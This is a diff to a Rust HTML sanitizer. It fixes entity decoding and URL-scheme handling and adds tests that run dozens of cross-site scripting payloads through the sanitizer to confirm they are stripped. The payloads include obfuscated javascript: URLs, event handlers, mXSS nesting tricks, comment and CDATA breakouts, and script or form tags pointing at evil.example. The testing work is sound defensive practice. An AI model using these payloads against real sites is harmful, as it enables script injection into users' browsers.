@@ -345,13 +345,7 @@ impl Sanitizer {
                     vec![v.as_str()]
                 };
                 if let Some(bad) = urls.iter().find(|u| !safe_url(u)) {
-                    let scheme = bad
-                        .trim_start()
-                        .split(':')
-                        .next()
-                        .unwrap_or("")
-                        .trim()
-                        .to_ascii_lowercase();
+                    let scheme = scheme_of(bad);
                     removed.push(Removal {
                         offset: at,
                         what: format!("`{attr}` with a `{scheme}:` URL on <{name}>"),
@@ -470,9 +464,18 @@ fn parse_tag(s: &str) -> Option<Tag<'_>> {
     }
 }
 
+/// The scheme of an unsafe URL, lower-cased, for messages (`javascript`).
+pub(crate) fn scheme_of(url: &str) -> String {
+    let cleaned: String = url
+        .chars()
+        .filter(|c| !c.is_whitespace() && !c.is_control())
+        .collect();
+    cleaned.split(':').next().unwrap_or("").to_ascii_lowercase()
+}
+
 /// A URL is safe when it has no scheme (relative, `/`, `#`, `?`) or one of http, https, mailto,
 /// tel. Control characters and whitespace are ignored, as browsers do.
-fn safe_url(url: &str) -> bool {
+pub(crate) fn safe_url(url: &str) -> bool {
     let cleaned: String = url
         .chars()
         .filter(|c| !c.is_whitespace() && !c.is_control())
@@ -513,9 +516,26 @@ fn decode_entities(s: &str) -> String {
     while let Some(amp) = rest.find('&') {
         out.push_str(&rest[..amp]);
         rest = &rest[amp..];
-        let body_end = rest[1..]
-            .find(|c: char| !c.is_ascii_alphanumeric() && c != '#')
-            .map_or(rest.len(), |e| e + 1);
+        // A numeric reference takes only its digits (`&#0000115cript` is `s` + `cript`), as
+        // browsers read it; a named one its letters and digits.
+        let body_end = match rest.as_bytes().get(1) {
+            Some(b'#') => {
+                let hex = matches!(rest.as_bytes().get(2), Some(b'x' | b'X'));
+                let from = if hex { 3 } else { 2 };
+                rest[from..]
+                    .find(|c: char| {
+                        if hex {
+                            !c.is_ascii_hexdigit()
+                        } else {
+                            !c.is_ascii_digit()
+                        }
+                    })
+                    .map_or(rest.len(), |e| e + from)
+            }
+            _ => rest[1..]
+                .find(|c: char| !c.is_ascii_alphanumeric())
+                .map_or(rest.len(), |e| e + 1),
+        };
         let body = &rest[1..body_end];
         let decoded = if let Some(num) = body.strip_prefix('#') {
             let n = match num.strip_prefix(['x', 'X']) {
@@ -634,5 +654,224 @@ mod tests {
         let (out, _) = clean("<scr<script>ipt>alert(1)</script>");
         assert!(!out.contains("<script"), "{out}");
         assert!(!out.contains("alert"), "{out}");
+    }
+
+    /// The hostile review: each vector must come out with nothing a browser would run or load
+    /// from a script URL. `dangerous` lists what must not survive (lower-cased output).
+    fn assert_defused(html: &str, dangerous: &[&str]) {
+        let (out, _) = clean(html);
+        let lower = out.to_ascii_lowercase();
+        // Text is harmless (every `<` in it is escaped); the tags we write are what matters.
+        let tags: Vec<&str> = lower
+            .match_indices('<')
+            .map(|(i, _)| &lower[i..lower[i..].find('>').map_or(lower.len(), |e| i + e + 1)])
+            .collect();
+        for d in dangerous {
+            assert!(
+                !tags.iter().any(|t| t.contains(d)),
+                "{html:?} let {d:?} through: {out:?}"
+            );
+        }
+        // Whatever came out, every `<` starts a tag we wrote ourselves.
+        for (i, _) in out.match_indices('<') {
+            let rest = &lower[i + 1..];
+            let name: String = rest
+                .trim_start_matches('/')
+                .chars()
+                .take_while(|c| c.is_ascii_alphanumeric())
+                .collect();
+            assert!(
+                ELEMENTS.contains(&name.as_str()),
+                "{html:?} gave a <{name}> tag: {out:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn hostile_event_handlers_in_every_form() {
+        for v in [
+            "<img src=x alt=\"\" onerror=alert(1)>",
+            "<img src=x alt=\"\" ONERROR=\"alert(1)\">",
+            "<img src=x alt=\"\"/onerror=alert(1)>",
+            "<img src=x alt=\"\" onerror\t=\talert(1)>",
+            "<details open ontoggle=alert(1)>x</details>",
+            "<a href=/x onmouseover='alert(1)'>x</a>",
+            "<p title=\"a\"onclick=\"alert(1)\">x</p>",
+            "<div data-x=1 onfocus=alert(1) autofocus tabindex=0>x</div>",
+        ] {
+            assert_defused(
+                v,
+                &[
+                    "onerror",
+                    "ontoggle",
+                    "onmouseover",
+                    "onclick",
+                    "onfocus",
+                    "autofocus",
+                ],
+            );
+        }
+    }
+
+    #[test]
+    fn hostile_script_urls_in_every_url_attribute() {
+        for attr in [
+            "a href",
+            "img alt=\"\" src",
+            "img alt=\"\" srcset",
+            "blockquote cite",
+            "q cite",
+            "del cite",
+            "ins cite",
+            "source srcset",
+        ] {
+            for url in [
+                "javascript:alert(1)",
+                "JaVaScRiPt:alert(1)",
+                " \tjavascript:alert(1)",
+                "java\nscript:alert(1)",
+                "java&#115;cript:alert(1)",
+                "java&#x73;cript&#x3A;alert(1)",
+                "java&#0000115cript:alert(1)",
+                "javascript&colon;alert(1)",
+                "java&Tab;script:alert(1)",
+                "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
+                "vbscript:msgbox(1)",
+                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+                "DATA:image/svg+xml,<svg onload=alert(1)>",
+            ] {
+                for q in ["\"", "'", ""] {
+                    if q.is_empty() && url.contains(char::is_whitespace) {
+                        continue;
+                    }
+                    let v = format!("<{attr}={q}{url}{q}>x");
+                    assert_defused(&v, &["javascript", "vbscript", "data:", "onload"]);
+                }
+            }
+        }
+        // A srcset whose second candidate is the bad one.
+        assert_defused(
+            "<img alt=\"\" srcset=\"/a.png 1x, javascript:alert(1) 2x\">",
+            &["javascript"],
+        );
+    }
+
+    #[test]
+    fn hostile_elements_go_with_their_content() {
+        for v in [
+            "<svg onload=alert(1)><script>alert(1)</script></svg>",
+            "<svg/onload=alert(1)>",
+            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mtext></math>",
+            "<style>@import 'javascript:alert(1)'; body{background:url(javascript:alert(1))}</style>",
+            "<ScRiPt>alert(1)</sCrIpT>",
+            "<script src=//evil.example/x.js></script>",
+            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+            "<object data=\"javascript:alert(1)\"></object>",
+            "<embed src=\"javascript:alert(1)\">",
+            "<template><script>alert(1)</script></template>",
+            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+        ] {
+            assert_defused(
+                v,
+                &[
+                    "alert(1)", "script", "svg", "math", "style", "iframe", "object", "embed",
+                    "onerror",
+                ],
+            );
+        }
+    }
+
+    #[test]
+    fn hostile_base_form_meta_link_go() {
+        for v in [
+            "<base href=\"https://evil.example/\">",
+            "<form action=\"https://evil.example/\"><input name=pw><button formaction=javascript:alert(1)>Go</button></form>",
+            "<meta http-equiv=\"refresh\" content=\"0; url=javascript:alert(1)\">",
+            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+            "<a href=/x target=_blank rel=opener>x</a>",
+            "<isindex action=javascript:alert(1)>",
+        ] {
+            assert_defused(
+                v,
+                &[
+                    "evil.example",
+                    "javascript",
+                    "refresh",
+                    "formaction",
+                    "target",
+                ],
+            );
+        }
+    }
+
+    #[test]
+    fn hostile_unclosed_tags_comments_and_cdata() {
+        for v in [
+            "<a href=\"javascript:alert(1)\"",
+            "<img src=x alt=\"\" onerror=\"alert(1)",
+            "<script>alert(1)",
+            "<!-- <script>alert(1)</script> -->",
+            "<!-- --!><script>alert(1)</script> -->",
+            "<!--><script>alert(1)</script> -->",
+            "<!---->x<!-- a -- b --><img src=x onerror=alert(1)>",
+            "<![CDATA[<script>alert(1)</script>]]>",
+            "<![CDATA[><img src=x onerror=alert(1)>]]>",
+            "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
+            "<!DOCTYPE html><img src=x onerror=alert(1)>",
+            "<<script>alert(1)//<</script>",
+            "<scr<script>ipt>alert(1)</scr</script>ipt>",
+            "</script><script>alert(1)</script>",
+            "<a href=\"/x\" <img src=x onerror=alert(1)>",
+        ] {
+            assert_defused(v, &["<script", "onerror", "javascript"]);
+        }
+    }
+
+    #[test]
+    fn hostile_nul_and_odd_bytes() {
+        for v in [
+            "<scr\0ipt>alert(1)</scr\0ipt>",
+            "<a href=\"java\0script:alert(1)\">x</a>",
+            "<a href=\"\u{1}javascript:alert(1)\">x</a>",
+            "<img src=x alt=\"\" on\0error=alert(1)>",
+            "<a\0href=javascript:alert(1)>x</a>",
+            "<a href=\"\u{feff}javascript:alert(1)\">x</a>",
+        ] {
+            assert_defused(v, &["<script", "javascript", "onerror", "on\0error"]);
+        }
+    }
+
+    #[test]
+    fn hostile_attribute_quoting_cannot_break_out() {
+        for v in [
+            "<a href=/x\"onclick=alert(1)//>x</a>",
+            "<a title='x\" onclick=\"alert(1)'>x</a>",
+            "<a title=x`onclick=alert(1)>x</a>",
+            "<p class=\"a&quot; onclick=&quot;alert(1)\">x</p>",
+            "<img alt=\"x\" title=\"a\" title=\"javascript:alert(1)\" src=\"/a.png\">",
+        ] {
+            let (out, _) = clean(v);
+            // The only attributes written are the allowed ones, each quoted by us.
+            for part in out.split('<').skip(1) {
+                let tag = part.split('>').next().unwrap_or("");
+                let mut in_quote = false;
+                let mut outside = String::new();
+                for c in tag.chars() {
+                    if c == '"' {
+                        in_quote = !in_quote;
+                    } else if !in_quote {
+                        outside.push(c);
+                    }
+                }
+                assert!(!outside.contains("onclick"), "{v:?} gave {out:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn hostile_nested_links_keep_no_bad_url() {
+        let (out, removed) = clean("<a href=\"/ok\"><a href=\"javascript:alert(1)\">x</a></a>");
+        assert_eq!(out, "<a href=\"/ok\"><a>x</a></a>");
+        assert_eq!(removed.len(), 1);
     }
 }
